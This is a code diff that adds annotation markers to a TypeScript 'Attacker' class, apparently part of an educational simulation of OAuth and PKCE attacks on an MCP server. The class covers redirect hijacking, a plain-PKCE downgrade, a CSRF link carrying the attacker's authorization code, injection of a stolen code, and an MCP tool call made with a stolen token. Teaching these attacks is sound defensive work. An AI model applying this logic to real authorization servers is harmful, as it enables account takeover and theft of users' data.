@@ -48,7 +48,7 @@ export class Attacker {
 	 */
 	observeRedirect(location: string): void {
 		const url = new URL(location);
-		this.copy(url.searchParams, 'code', 'state');
+		this.copy(url.searchParams, 'code', 'state'); // #mark copy
 		this.redirectUri = url.origin + url.pathname;
 	}
 	// #endregion observe-response
@@ -60,7 +60,7 @@ export class Attacker {
 	 * @see https://www.rfc-editor.org/rfc/rfc8252#section-8.1
 	 */
 	takeRedirect(request: HttpRequest): HttpResponse {
-		this.observeRedirect(request.url);
+		this.observeRedirect(request.url); // #mark take
 		return pageResponse(200, 'Signed in. You can close this window.');
 	}
 	// #endregion hijack-redirect
@@ -73,10 +73,10 @@ export class Attacker {
 	 */
 	readAuthorizationRequest(url: string): void {
 		const query = new URL(url).searchParams;
-		this.copy(query, 'code_challenge', 'state');
+		this.copy(query, 'code_challenge', 'state'); // #mark copy
 		const challenge = query.get('code_challenge');
 		if (challenge && query.get('code_challenge_method') === 'plain') {
-			this.notebook.code_verifier = challenge;
+			this.notebook.code_verifier = challenge; // #mark plain-verifier
 		}
 	}
 	// #endregion read-request
@@ -91,13 +91,13 @@ export class Attacker {
 		const { code, code_challenge } = this.notebook;
 		if (!code || !this.redirectUri) throw new Error('the attacker has no code');
 		const code_verifier = {
-			'no-verifier': () => undefined,
-			'guessed-verifier': () => generateCodeVerifier(43, this.options.random), // ← 1 in 2^256
-			'challenge-as-verifier': () => code_challenge
+			'no-verifier': () => undefined, // #mark no-verifier
+			'guessed-verifier': () => generateCodeVerifier(43, this.options.random), // ← 1 in 2^256 // #mark guess
+			'challenge-as-verifier': () => code_challenge // #mark challenge
 		}[strategy]();
 		const request = formPost(this.options.token_endpoint, [
 			['grant_type', 'authorization_code'],
-			['code', code],
+			['code', code], // #mark code
 			['redirect_uri', this.redirectUri],
 			['client_id', this.options.client_id],
 			...(code_verifier ? [['code_verifier', code_verifier] as const] : []),
@@ -110,7 +110,7 @@ export class Attacker {
 	// #region call-mcp-as-victim
 	/** Uses a token it obtained against the MCP server: the user's data, in the attacker's hands. */
 	async callMcp(send: Send): Promise<Exchange> {
-		const request = mcpToolCall(this.options.resource, this.notebook.access_token);
+		const request = mcpToolCall(this.options.resource, this.notebook.access_token); // #mark bearer
 		return { request, response: await send(request) };
 	}
 	// #endregion call-mcp-as-victim
@@ -125,13 +125,13 @@ export class Attacker {
 		const url = new URL(this.options.authorization_endpoint);
 		url.searchParams.append('response_type', 'code');
 		url.searchParams.append('client_id', this.options.client_id);
-		url.searchParams.append('redirect_uri', victimRedirectUri);
+		url.searchParams.append('redirect_uri', victimRedirectUri); // #mark victim-redirect
 		url.searchParams.append('state', base64UrlEncode(this.options.random(16)));
 		url.searchParams.append('resource', this.options.resource);
 		const request = browserGet(url.href);
 		const response = await send(request, { user: this.user });
 		const location = headerValue(response, 'Location');
-		if (location) this.copy(new URL(location).searchParams, 'code', 'state');
+		if (location) this.copy(new URL(location).searchParams, 'code', 'state'); // #mark keep-code
 		return { request, response };
 	}
 	// #endregion downgrade-own-flow
@@ -140,7 +140,7 @@ export class Attacker {
 	/** The link it makes the victim's browser open (CSRF): the victim's callback, its own code. */
 	injectionLink(victimRedirectUri: string): string {
 		const url = new URL(victimRedirectUri);
-		if (this.notebook.code) url.searchParams.append('code', this.notebook.code);
+		if (this.notebook.code) url.searchParams.append('code', this.notebook.code); // #mark plant
 		if (this.notebook.state) url.searchParams.append('state', this.notebook.state);
 		return url.href;
 	}
@@ -157,7 +157,7 @@ export class Attacker {
 			this.options;
 		const client = new McpClient({ client_id, port, resource, random, sha256 });
 		client.useServer({ authorization_endpoint, token_endpoint });
-		await client.startSignIn();
+		await client.startSignIn(); // #mark own-verifier
 		const request = browserGet(client.authorizationUrl());
 		const response = await send(request, { user: this.user });
 		this.ownClient = client;
@@ -176,7 +176,7 @@ export class Attacker {
 		const { code } = this.notebook;
 		if (!code || !this.ownClient || !this.ownCallback) throw new Error('nothing to inject');
 		const callback = new URL(this.ownCallback);
-		callback.searchParams.set('code', code);
+		callback.searchParams.set('code', code); // #mark swap
 		this.ownClient.receiveCallback(callback.href);
 		return callback.href;
 	}
@@ -184,7 +184,7 @@ export class Attacker {
 	/** Its own client redeems the injected code with that client's own `code_verifier`. */
 	async redeemInjectedCode(send: Send): Promise<Exchange> {
 		if (!this.ownClient) throw new Error('no session of its own');
-		return this.keepToken(await this.ownClient.redeem(send));
+		return this.keepToken(await this.ownClient.redeem(send)); // #mark redeem
 	}
 	// #endregion inject-stolen-code
 
